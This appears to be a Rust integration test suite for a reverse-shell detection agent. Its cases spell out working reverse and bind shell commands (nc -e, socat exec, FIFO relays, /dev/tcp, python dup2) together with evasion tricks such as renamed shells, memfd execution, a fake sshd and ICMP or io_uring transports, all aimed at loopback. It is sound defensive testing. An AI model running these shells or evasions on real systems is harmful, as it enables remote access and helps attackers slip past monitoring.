//! Shells built by an attacker who has read the README and the rule pack (issue "Detection that
//! holds against an attacker who knows the design"), one test per way of dodging a verdict: a
//! direction the agent cannot tell, two connections, a relay walk full of decoys, a shell that
//! is not called a shell, the csh family's fds, a fake trusted broker, transports without
//! connections, a connection held only by an io_uring. Each shell is proven to work (a command
//! round trip) and must raise one incident in the first scan that sees it, under
//! `run --interval 250ms`.

use crate::shells::{Case, Far, run_cases};
use crate::util::prerequisites;

/// A FIFO relay around the shell: `cat f | SHELL 2>&1 | nc 127.0.0.1 PORT > f`.
macro_rules! fifo_shell {
    ($shell:literal) => {
        concat!("f=DIR/f; mkfifo $f; cat $f | ", $shell, " 2>&1 | nc 127.0.0.1 PORT > $f")
    };
}

const UNKNOWN_DIRECTION: &[Case] = &[
    Case {
        rules: &["shell-stdio-on-network-connections", "shell-holds-network-socket"],
        subject: &["dash"],
        ..Case::new(
            "nc -p SRC -e sh, both ports below the ephemeral range, listener gone at accept",
            Far::TcpOnce,
            "nc.traditional -p SRC -e /bin/sh 127.0.0.1 PORT",
        )
    },
    Case {
        rules: &["shell-stdio-on-network-connections"],
        relay: Some("socat"),
        subject: &["dash"],
        ..Case::new(
            "socat sourceport= exec:sh",
            Far::TcpOnce,
            "socat tcp:127.0.0.1:PORT,sourceport=SRC,reuseaddr exec:'sh -i'",
        )
    },
    Case {
        rules: &["shell-stdio-on-network-connections"],
        subject: &["dash"],
        ..Case::new(
            "bind shell whose listener lived a few ms, client from a fixed port",
            Far::BindFrom,
            "nc.traditional -l -s 127.0.0.1 -p PORT -e /bin/sh",
        )
    },
    Case {
        // The shell's own connection is a hop to a local relay, both ports fixed; the relay
        // forwards to the far end from a fixed port too, and both listeners close at accept.
        rules: &["shell-stdio-on-network-connections"],
        relay: Some("nc"),
        subject: &["dash"],
        endpoints: &["HOP"],
        ..Case::new(
            "relay hop over a loopback TCP connection with fixed ports",
            Far::TcpOnce,
            "socat tcp-listen:HOP,bind=127.0.0.1,reuseaddr tcp:127.0.0.1:PORT,sourceport=SRC2,reuseaddr & \
             sleep 0.3; f=DIR/f; mkfifo $f; \
             cat $f | /bin/sh -i 2>&1 | nc.traditional -p SRC 127.0.0.1 HOP > $f",
        )
    },
];

#[test]
fn a_direction_the_agent_cannot_tell_does_not_silence_it() {
    if !prerequisites(&["python3", "socat", "nc", "nc.traditional"]) {
        return;
    }
    run_cases(UNKNOWN_DIRECTION);
}

const TWO_CONNECTIONS: &[Case] = &[
    Case {
        rules: &["shell-stdio-relayed-to-outbound-socket", "shell-stdio-on-network-connections"],
        subject: &["dash"],
        endpoints: &["PORT", "PORT2"],
        ..Case::new(
            "nc H P | sh | nc H P2",
            Far::Split,
            "nc 127.0.0.1 PORT | /bin/sh 2>&1 | nc 127.0.0.1 PORT2",
        )
    },
    Case {
        rules: &["shell-stdio-relayed-to-outbound-socket", "shell-stdio-on-network-connections"],
        subject: &["dash"],
        endpoints: &["PORT", "PORT2"],
        ..Case::new(
            "the telnet two-port shell",
            Far::Split,
            "sleep 600 | telnet 127.0.0.1 PORT | /bin/sh 2>&1 | telnet 127.0.0.1 PORT2",
        )
    },
    Case {
        rules: &["shell-stdio-relayed-to-outbound-socket", "shell-stdio-on-network-connections"],
        subject: &["dash"],
        endpoints: &["PORT", "PORT2"],
        ..Case::new(
            "curl telnet:// pair",
            Far::Split,
            "sleep 600 | curl -sN telnet://127.0.0.1:PORT | /bin/sh 2>&1 \
             | curl -sNT . telnet://127.0.0.1:PORT2",
        )
    },
    Case {
        // Commands from an inbound connection, answers on an outbound one: no direction rule
        // sees both sides.
        rules: &["shell-stdio-on-network-connections"],
        subject: &["dash"],
        endpoints: &["PORT", "PORT2"],
        ..Case::new(
            "nc -l P | sh | nc H P2 (one inbound, one outbound)",
            Far::SplitMixed,
            "nc.traditional -l -s 127.0.0.1 -p PORT | /bin/sh 2>&1 | nc 127.0.0.1 PORT2",
        )
    },
];

#[test]
fn stdin_from_one_connection_and_output_to_another_is_one_incident() {
    if !prerequisites(&["python3", "nc", "nc.traditional", "telnet", "curl"]) {
        return;
    }
    run_cases(TWO_CONNECTIONS);
}

/// Python that makes `count` UDP sockets (connected to the discard port when `connected`) the
/// next program inherits, then execs `nc 127.0.0.1 PORT`.
macro_rules! nc_with_decoys {
    ($count:literal, $connect:literal) => {
        concat!(
            "python3 -c 'import os, socket\n",
            "for _ in range(",
            $count,
            "):\n",
            "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n",
            "    s.connect((\"127.0.0.1\", 9)) if ",
            $connect,
            " else s.bind((\"127.0.0.1\", 0))\n",
            "    s.set_inheritable(True)\n",
            "    s.detach()\n",
            "os.execvp(\"nc\", [\"nc\", \"127.0.0.1\", \"PORT\"])'"
        )
    };
}

const STEERED_WALK: &[Case] = &[
    Case {
        // The decoy relays are python until they exec cat: the first scan may name one of them
        // (an interpreter relaying to the network) rather than the shell.
        rules: &["shell-stdio-relayed-to-outbound-socket"],
        relay: Some("nc"),
        min_relays: 2,
        ..Case::new(
            "a relay holding a decoy UDP socket on each side of the shell",
            Far::Tcp,
            "decoy() { exec python3 -c 'import os, socket; s = socket.socket(socket.AF_INET, \
             socket.SOCK_DGRAM); s.bind((\"127.0.0.1\", 0)); s.set_inheritable(True); \
             s.detach(); os.execvp(\"cat\", [\"cat\"])'; }; \
             f=DIR/f; mkfifo $f; cat $f | decoy | /bin/sh -i 2>&1 | decoy | nc 127.0.0.1 PORT > $f",
        )
    },
    Case {
        rules: &["shell-stdio-relayed-to-outbound-socket"],
        relay: Some("nc"),
        subject: &["dash"],
        ..Case::new(
            "70 idle writers on the FIFO, started before the real one",
            Far::Tcp,
            "f=DIR/f; mkfifo $f; for i in $(seq 70); do sleep 600 > $f & done; \
             cat $f | /bin/sh -i 2>&1 | nc 127.0.0.1 PORT > $f",
        )
    },
    Case {
        rules: &["shell-stdio-relayed-to-outbound-socket"],
        relay: Some("nc"),
        subject: &["dash"],
        ..Case::new(
            "70 decoy sockets on the relay holding the connection",
            Far::Tcp,
            concat!(
                "f=DIR/f; mkfifo $f; cat $f | /bin/sh -i 2>&1 | ",
                nc_with_decoys!(70, "False"),
                " > $f"
            ),
        )
    },
    Case {
        rules: &["shell-stdio-relayed-to-outbound-socket"],
        relay: Some("nc"),
        min_relays: 13,
        subject: &["dash"],
        ..Case::new(
            "cat | cat | … ×12 on each side",
            Far::Tcp,
            "f=DIR/f; mkfifo $f; cat $f | cat | cat | cat | cat | cat | cat | cat | cat | cat | \
             cat | cat | cat | /bin/sh -i 2>&1 | cat | cat | cat | cat | cat | cat | cat | cat | \
             cat | cat | cat | cat | nc 127.0.0.1 PORT > $f",
        )
    },
    Case {
        // More connections on the relay than a walk lists: the real one may not be among those
        // listed, and the truncation is the finding.
        rules: &["shell-stdio-walk-truncated"],
        subject: &["dash"],
        endpoints: &[],
        ..Case::new(
            "300 connected decoys on the relay: the walk is cut short, and says so",
            Far::Tcp,
            concat!(
                "f=DIR/f; mkfifo $f; cat $f | /bin/sh -i 2>&1 | ",
                nc_with_decoys!(300, "True"),
                " > $f"
            ),
        )
    },
];

#[test]
fn a_relay_walk_the_attacker_fills_with_decoys_still_reaches_the_connection() {
    if !prerequisites(&["python3", "nc", "cat", "mkfifo"]) {
        return;
    }
    run_cases(STEERED_WALK);
}

const IDENTITY: &[Case] = &[
    Case {
        rules: &["shell-holds-network-socket", "stdio-outbound-socket"],
        subject: &["kworker"],
        ..Case::new(
            "a renamed copy of bash",
            Far::Tcp,
            // python connects and execs the copy: no bash ever holds the socket.
            "cp /bin/bash DIR/kworker; python3 -c 'import os, socket; \
             s = socket.create_connection((\"127.0.0.1\", PORT)); \
             [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; os.execv(\"DIR/kworker\", [\"kworker\", \"-i\"])'",
        )
    },
    Case {
        rules: &["shell-stdio-relayed-to-outbound-socket"],
        subject: &["update-notifier"],
        relay: Some("nc"),
        ..Case::new(
            "a renamed copy of dash behind a FIFO",
            Far::Tcp,
            concat!("cp /bin/dash DIR/update-notifier; ", fifo_shell!("DIR/update-notifier -i")),
        )
    },
    Case {
        rules: &["shell-holds-network-socket"],
        ..Case::new(
            "dash run from a memfd",
            Far::Tcp,
            "python3 -c 'import os, socket; s = socket.create_connection((\"127.0.0.1\", PORT)); \
             [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; m = os.memfd_create(\"kthreadd\", 0); \
             os.write(m, open(\"/bin/dash\", \"rb\").read()); \
             os.execve(\"/proc/self/fd/%d\" % m, [\"dash\", \"-i\"], {})'",
        )
    },
    Case {
        rules: &["shell-holds-network-socket"],
        ..Case::new(
            "dash run from a file deleted since",
            Far::Tcp,
            "cp /bin/dash DIR/d; DIR/d -i 3<>/dev/tcp/127.0.0.1/PORT <&3 >&3 2>&3 & \
             sleep 0.2; rm -f DIR/d; wait",
        )
    },
    Case {
        rules: &["shell-stdio-relayed-to-outbound-socket"],
        subject: &["sshd"],
        relay: Some("nc"),
        ..Case::new(
            "bash copied under a broker's name",
            Far::Tcp,
            concat!("cp /bin/bash DIR/sshd; ", fifo_shell!("DIR/sshd -i")),
        )
    },
    Case {
        rules: &["shell-stdio-relayed-to-outbound-socket"],
        subject: &["busybox"],
        relay: Some("nc"),
        ..Case::new("busybox sh (the applet in argv[1])", Far::Tcp, fifo_shell!("busybox sh -i"))
    },
    Case {
        rules: &["interpreter-stdio-relayed-to-network", "stdio-relayed-to-network"],
        relay: Some("nc"),
        send: Some("print(\"SOCKW\" \"ATCH-READY\")"),
        ..Case::new("python3 -i", Far::Tcp, fifo_shell!("python3 -i"))
    },
    Case {
        rules: &["interpreter-stdio-relayed-to-network", "stdio-relayed-to-network"],
        subject: &["node"],
        relay: Some("nc"),
        send: Some("console.log(\"SOCKW\" + \"ATCH-READY\")"),
        ..Case::new("node -i", Far::Tcp, fifo_shell!("node -i"))
    },
    Case {
        rules: &["interpreter-stdio-relayed-to-network", "stdio-relayed-to-network"],
        relay: Some("nc"),
        send: Some("p \"SOCKW\" . \"ATCH-READY\""),
        ..Case::new("perl -de0", Far::Tcp, fifo_shell!("perl -de0"))
    },
    Case {
        rules: &["interpreter-stdio-relayed-to-network", "stdio-relayed-to-network"],
        relay: Some("nc"),
        send: Some("puts \"SOCKW\" + \"ATCH-READY\""),
        ..Case::new("irb", Far::Tcp, fifo_shell!("irb"))
    },
    Case {
        rules: &["interpreter-stdio-relayed-to-network", "stdio-relayed-to-network"],
        relay: Some("nc"),
        send: Some("echo \"SOCKW\" . \"ATCH-READY\\n\";"),
        ..Case::new("php -a", Far::Tcp, fifo_shell!("php -a"))
    },
    Case {
        rules: &["interpreter-stdio-relayed-to-network", "stdio-relayed-to-network"],
        relay: Some("nc"),
        send: Some("print(\"SOCKW\" .. \"ATCH-READY\")"),
        ..Case::new("lua -i", Far::Tcp, fifo_shell!("lua -i"))
    },
];

#[test]
fn shells_and_interpreters_are_known_by_what_ran_not_by_their_names() {
    if !prerequisites(&["python3", "nc", "busybox", "node", "perl", "irb", "php", "lua"]) {
        return;
    }
    run_cases(IDENTITY);
}

const CSH: &[Case] = &[
    Case {
        rules: &["shell-stdio-relayed-to-outbound-socket"],
        subject: &["bsd-csh"],
        relay: Some("nc"),
        ..Case::new("csh behind a FIFO and nc", Far::Tcp, fifo_shell!("csh -i"))
    },
    Case {
        rules: &["shell-stdio-relayed-to-outbound-socket"],
        subject: &["tcsh"],
        relay: Some("nc"),
        ..Case::new("tcsh behind a FIFO and nc", Far::Tcp, fifo_shell!("tcsh -i"))
    },
    Case {
        rules: &["interpreter-serves-shell-over-network"],
        subject: &["bsd-csh"],
        relay: Some("socat"),
        ..Case::new("socat exec:csh", Far::Tcp, "socat tcp:127.0.0.1:PORT exec:'csh -i'")
    },
    Case {
        rules: &["interpreter-serves-shell-over-network"],
        subject: &["tcsh"],
        relay: Some("socat"),
        ..Case::new(
            "socat exec:tcsh,pty",
            Far::Tcp,
            "socat tcp:127.0.0.1:PORT exec:'tcsh -i',pty,stderr,setsid",
        )
    },
];

#[test]
fn the_csh_family_is_seen_on_the_fds_it_moves_its_stdio_to() {
    if !prerequisites(&["python3", "nc", "socat", "csh", "tcsh"]) {
        return;
    }
    run_cases(CSH);
}

const FAKE_BROKERS: &[Case] = &[
    Case {
        // `script` relays its stdio (the accepted connection) to a pty where sh runs; run as
        // /usr/sbin/sshd through a bind mount in a mount namespace of its own.
        rules: &["bind-shell"],
        subject: &["dash"],
        relay: Some("sshd"),
        ..Case::new(
            "a bind mount over /usr/sbin/sshd in a private mount namespace",
            Far::Bind,
            "cp /usr/bin/script DIR/sshd; unshare -m sh -c 'mount --bind DIR/sshd /usr/sbin/sshd \
             && exec systemd-socket-activate --inetd -a -l 127.0.0.1:PORT /usr/sbin/sshd -qfc \
             \"sh -i\" /dev/null'",
        )
    },
    Case {
        // A container's root with its own /usr/sbin/sshd (the host's /usr, another file there).
        rules: &["bind-shell"],
        subject: &["dash"],
        relay: Some("sshd"),
        ..Case::new(
            "a container root whose /usr/sbin/sshd is its own",
            Far::Bind,
            "cp /usr/bin/script DIR/sshd; R=DIR/root; mkdir -p $R/usr $R/dev $R/proc $R/tmp; \
             for l in bin sbin lib lib64; do ln -s usr/$l $R/$l; done; \
             unshare -m sh -c \"mount --rbind /usr $R/usr && mount --rbind /dev $R/dev \
             && mount -t proc proc $R/proc && mount --bind DIR/sshd $R/usr/sbin/sshd \
             && exec chroot $R systemd-socket-activate --inetd -a -l 127.0.0.1:PORT \
             /usr/sbin/sshd -qfc 'sh -i' /dev/null\"",
        )
    },
];

#[test]
fn a_trusted_broker_is_the_hosts_own_file_not_a_path() {
    if !prerequisites(&["python3", "sshd", "script", "unshare", "systemd-socket-activate"]) {
        return;
    }
    run_cases(FAKE_BROKERS);
}

const CONNECTIONLESS: &[Case] = &[
    Case {
        rules: &["shell-stdio-on-connectionless-socket"],
        subject: &["dash"],
        endpoints: &[],
        ..Case::new("sh over an unconnected UDP socket", Far::Udp, "exec python3 RELAY udp PORT")
    },
    Case {
        rules: &["shell-stdio-on-connectionless-socket"],
        subject: &["dash"],
        endpoints: &[],
        ..Case::new("sh over raw ICMP", Far::Icmp, "exec python3 RELAY icmp TOKEN")
    },
    Case {
        rules: &["shell-stdio-on-connectionless-socket"],
        subject: &["dash"],
        endpoints: &[],
        ..Case::new("sh over a packet socket", Far::Packet, "exec python3 RELAY packet TOKEN")
    },
];

#[test]
fn shells_over_datagrams_icmp_and_raw_frames_alert() {
    if !prerequisites(&["python3"]) {
        return;
    }
    run_cases(CONNECTIONLESS);
}

/// The connection lives only in an io_uring's registered files: registered and closed, or
/// created in the ring and never given an fd. The relay holds it through the ring.
const OUTSIDE_FD_TABLES: &[Case] = &[
    Case {
        rules: &["shell-stdio-relayed-to-outbound-socket"],
        relay: Some("python3"),
        subject: &["dash"],
        ..Case::new(
            "sh relayed through a connection registered in an io_uring and closed",
            Far::Tcp,
            "exec python3 URING registered PORT",
        )
    },
    Case {
        rules: &["shell-stdio-relayed-to-outbound-socket"],
        relay: Some("python3"),
        subject: &["dash"],
        ..Case::new(
            "sh relayed through a connection made inside an io_uring (no fd ever)",
            Far::Tcp,
            "exec python3 URING direct PORT",
        )
    },
];

#[test]
fn a_connection_held_only_by_an_io_uring_is_held_by_the_rings_owner() {
    if !prerequisites(&["python3"]) {
        return;
    }
    run_cases(OUTSIDE_FD_TABLES);
}

/// The shell's connection is in a namespace no process is in and nothing mounts: the agent finds
/// the namespace through the socket (a copy of the shell's fd) and alerts with the endpoint.
#[test]
fn a_shell_in_a_namespace_only_its_sockets_keep_alive_is_resolved() {
    if !prerequisites(&["python3"]) {
        return;
    }
    let agent = crate::agent::Agent::start(&["--interval", "250ms", "--no-baseline"]);
    // The fixture proves the shell answers before it prints its facts.
    let (_shell, facts) = crate::scan_privileges::unpinned_shell();
    let port = facts["port"].as_u64().unwrap() as u16;
    let alert = agent.wait_for("incident_opened for the shell", |e| {
        e["event"]["action"] == "incident_opened" && crate::shells::is_incident_for(e, port)
    });
    let rules: Vec<&str> =
        alert["rule"]["id"].as_array().into_iter().flatten().filter_map(|r| r.as_str()).collect();
    assert!(rules.contains(&"shell-holds-network-socket"), "{rules:?}");
    assert_eq!(alert["process"]["pid"], facts["shell"]);
    assert_eq!(alert["sockwatch"]["socket"]["netns"], facts["netns"], "{alert:#}");
    // What the rule is, for whoever reads the alert.
    let described = alert["rule"]["description"].as_array().cloned().unwrap_or_default();
    assert!(
        described.len() == rules.len() && described.iter().all(|d| d.as_str() != Some("")),
        "{alert:#}"
    );
    let subtechniques = &alert["threat"]["technique"]["subtechnique"];
    assert!(subtechniques["name"].as_array().unwrap().contains(&"Unix Shell".into()), "{alert:#}");
    assert!(
        alert["threat"]["tactic"]["name"]
            .as_array()
            .unwrap()
            .contains(&"Command and Control".into())
    );
}
